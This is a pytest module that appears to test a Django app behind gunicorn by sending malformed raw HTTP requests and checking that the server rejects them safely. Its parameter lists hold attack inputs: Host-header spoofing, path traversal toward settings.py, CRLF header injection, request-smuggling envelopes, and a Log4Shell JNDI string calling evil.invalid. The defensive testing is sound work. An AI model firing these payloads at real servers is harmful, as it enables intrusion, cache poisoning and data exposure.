"""Corpus G, over a socket: requests that no browser writes, against gunicorn as it really runs."""

from __future__ import annotations

import json
import re
import time
from typing import Final

import pytest
from django.core.management import call_command

from tests.trust.live import Server

pytestmark = pytest.mark.slow

_TELLS_TOO_MUCH: Final = re.compile(r"Traceback|File \"|SELECT |site-packages|/tmp/|psycopg")
_HEAD: Final = "Host: 127.0.0.1\r\nConnection: close\r\n"


@pytest.fixture(scope="module", autouse=True)
def pages_have_their_files(server: Server) -> None:
    """Let error pages find their style sheets, as they do where the site is set up."""
    call_command("collectstatic", "--no-input", verbosity=0)


def ask(server: Server, request: str | bytes, statuses: set[int]) -> bytes:
    """Send exactly this, and assert what every request of the corpus must come to."""
    workers, began = server.workers(), time.perf_counter()
    sent = request if isinstance(request, bytes) else request.encode("latin-1")

    answer = server.send_raw(sent)

    assert answer.status in statuses, answer.body[:300]
    assert time.perf_counter() - began < 2
    assert server.workers() == workers
    assert not _TELLS_TOO_MUCH.search(answer.body.decode("latin-1"))
    return answer.body


# --- G04: names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "lines",
    [
        "Host: evil.invalid\r\n",
        "Host: 127.0.0.1:443@evil.invalid\r\n",
        "Host: evil.invalid\r\nHost: 127.0.0.1\r\n",  # without any, nginx refuses it
    ],
)
def test_g04_names_that_are_not_ours(server: Server, lines: str) -> None:
    ask(server, f"GET / HTTP/1.1\r\n{lines}Connection: close\r\n\r\n", {400})


def test_g04_an_absolute_address_makes_no_other_name(server: Server) -> None:
    body = ask(server, f"GET http://evil.invalid/ HTTP/1.1\r\n{_HEAD}\r\n", {200, 400, 404})

    assert b"evil.invalid" not in body


# --- G07: cookies ---------------------------------------------------------------------------------

COOKIES: Final = {
    "8 KB": "session=" + "s" * 8_200,
    "200 of them": "; ".join(f"c{number}=x" for number in range(200)),
    "not ASCII": "session=\xe9\xff; csrf=\xfc",
    "twice": "session=aaaa; session=bbbb; session=",
    "broken": 'session="; a=b; =; ;;; ==; "',
    "a session of nobody": "session=" + "s" * 32,
}


@pytest.mark.parametrize("cookie", COOKIES.values(), ids=COOKIES)
def test_g07_cookies(server: Server, cookie: str) -> None:
    ask(
        server,
        f"GET /d/exampleton/my-reports/ HTTP/1.1\r\n{_HEAD}Cookie: {cookie}\r\n\r\n",
        {302, 400, 431},
    )


# --- G12: methods ---------------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["TRACE", "PROPFIND", "TRACK", "GETS", "DELETE"])
def test_g12_methods(server: Server, method: str) -> None:
    body = ask(
        server,
        f"{method} /account/login/ HTTP/1.1\r\n{_HEAD}X-Echo: canary-7731\r\n\r\n",
        {400, 403, 405},
    )

    assert b"canary-7731" not in body


# --- G13: paths -----------------------------------------------------------------------------------

PATHS: Final = {
    "up": "/static/../ntars_geo/settings.py",
    "up, encoded": "/static/%2e%2e/%2e%2e/ntars_geo/settings.py",
    "up, twice encoded": "/static/%252e%252e/settings.py",
    "backslashes": "/static/..\\..\\settings.py",
    "two slashes": "//evil.invalid/%2f..",
    "a semicolon": "/;/d/exampleton/triage/",
    "trailing dots": "/d/exampleton/triage/...",
    "no text": "/%ff%fe",
    "a null": "/d/%00/triage/",
    "line end": "/d/%0d%0aSet-Cookie:%20a=b/",
    "10 KB": "/" + "a" * 10_000,
}


@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_g13_paths(server: Server, path: str) -> None:
    ask(server, f"GET {path} HTTP/1.1\r\n{_HEAD}\r\n", {400, 404, 414})


# --- G14: requests that two servers would read differently ----------------------------------------

_CHUNKED: Final = "Transfer-Encoding: chunked\r\n"
_POST: Final = "POST /api/v1/reports HTTP/1.1\r\n"
TWO_WAYS: Final = {
    "length and chunks": f"{_POST}{_HEAD}Content-Length: 4\r\n{_CHUNKED}\r\n0\r\n\r\n",
    "chunked twice": f"{_POST}{_HEAD}Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    "chunked by another name": f"{_POST}{_HEAD}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "a space before the colon": f"{_POST}{_HEAD}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "two lengths": f"{_POST}{_HEAD}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{{}}",
    "a folded line": f"{_POST}{_HEAD}X-A: b\r\n c\r\nContent-Length: 2\r\n\r\n{{}}",
    "a null in a header": f"{_POST}{_HEAD}X-A: b\0c\r\nContent-Length: 2\r\n\r\n{{}}",
    "a chunk of no size": f"{_POST}{_HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
    "no version": "GET /\r\n\r\n",
    "another version": f"GET / HTTP/9.9\r\n{_HEAD}\r\n",
    "80 headers": f"GET / HTTP/1.1\r\n{_HEAD}"
    + "".join(f"X-{n}: y\r\n" for n in range(80))
    + "\r\n",
}


@pytest.mark.parametrize("request_", TWO_WAYS.values(), ids=TWO_WAYS)
def test_g14_two_ways(server: Server, request_: str) -> None:
    # 401: the envelope was read in one way only, and nobody was signed in. 0: hung up on.
    ask(server, request_, {0, 400, 401, 415, 431, 501, 505})


def test_g14_bare_line_ends_are_no_second_request(server: Server) -> None:
    body = ask(
        server,
        f"GET /csrf/ HTTP/1.1\r\n{_HEAD}X-A: b\n\nGET /manifest.webmanifest HTTP/1.1\r\n\r\n",
        {0, 200, 400},
    )

    assert b"NTARS Geo: report" not in body


# --- G20: what a log line is made of --------------------------------------------------------------

AGENTS: Final = {
    "escape codes": "\x1b[31mred\x1b[0m canary-7732",
    "log4j": "${jndi:ldap://evil.invalid/canary-7732}",
    "8 KB": "canary-7732" + "x" * 8_000,
    "not ASCII": "canary-7732 \xe2\x80\xa8 \xff",
    "JSON": '"},{"level":"canary-7732"',
}


@pytest.mark.parametrize("agent", AGENTS.values(), ids=AGENTS)
def test_g20_one_line_and_nothing_of_the_reader(server: Server, agent: str) -> None:
    before = len(server.log.read_text())

    ask(
        server,
        f"GET /nowhere/ HTTP/1.1\r\n{_HEAD}User-Agent: {agent}\r\nReferer: {agent}\r\n\r\n",
        {400, 404, 431},
    )

    said = server.log.read_text()[before:]
    lines = said.splitlines()
    assert len(lines) <= 1
    assert "canary" not in said
    assert all(isinstance(json.loads(line), dict) for line in lines if line.startswith("{"))
